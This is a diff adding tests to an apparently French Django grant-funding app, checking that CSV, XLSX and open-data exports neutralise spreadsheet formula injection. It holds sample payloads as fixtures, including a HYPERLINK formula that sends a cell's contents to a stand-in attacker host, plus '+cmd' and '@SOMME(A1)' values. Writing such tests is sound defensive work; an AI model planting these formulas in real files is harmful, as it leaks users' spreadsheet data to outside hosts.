@@ -105,3 +105,35 @@ def test_it_forbids_the_exports_to_structures(client, membre_structure):
 def test_it_links_each_funder_open_data_from_the_call_page(client, appel, epci):
     page = client.get(reverse("financements:appel", args=[appel.pk])).content.decode()
     assert reverse("financements:scdl", args=[epci.pk]) in page
+
+
+FORMULE = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'
+
+
+def test_the_board_exports_never_turn_a_name_into_a_formula(client, appel, agent, prefecture):
+    (dossier,) = dossiers_decides(appel, [prefecture], 1, prefixe=FORMULE)
+    dossier.titre = "-1+2"
+    dossier.save()
+    client.force_login(agent)
+    lignes = list(csv.reader(io.StringIO(_contenu(client.get(reverse("financements:export_csv"))), newline="")))
+    assert lignes[1][1:3] == ["'-1+2", f"'{FORMULE} {dossier.structure.raison_sociale.split()[-1]}"]
+    assert lignes[1][8] == "12000.00"
+    reponse = client.get(reverse("financements:export_xlsx"))
+    cellules = next(load_workbook(io.BytesIO(reponse.content)).active.iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in cellules[1:3]] == [
+        ("-1+2", "s"),
+        (dossier.structure.raison_sociale, "s"),
+    ]
+    assert (cellules[8].value, cellules[8].data_type) == (12000, "n")
+
+
+def test_open_data_never_turns_a_name_into_a_formula(client, appel, epci):
+    (dossier,) = dossiers_decides(appel, [epci], 1, prefixe="@SOMME(A1)", montant=Decimal("12500.50"))
+    dossier.titre = "+cmd"
+    dossier.save()
+    lignes = list(csv.reader(io.StringIO(_contenu(client.get(reverse("financements:scdl", args=[epci.pk]))))))
+    valeurs = dict(zip(COLONNES_SCDL, lignes[1], strict=True))
+    assert valeurs["nomBeneficiaire"].startswith("'@SOMME(A1)")
+    assert valeurs["objet"] == "'+cmd"
+    assert valeurs["montant"] == "12500.50"
+    assert valeurs["pourcentageSubvention"] == "1.00"
